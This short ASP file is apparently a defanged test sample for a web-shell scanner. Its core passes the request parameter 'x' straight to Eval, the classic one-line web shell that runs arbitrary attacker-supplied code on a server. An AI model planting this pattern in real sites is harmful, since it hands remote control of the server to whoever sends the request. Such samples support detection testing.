<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set r = Request
x = r.Item("x")
Eval x
%>
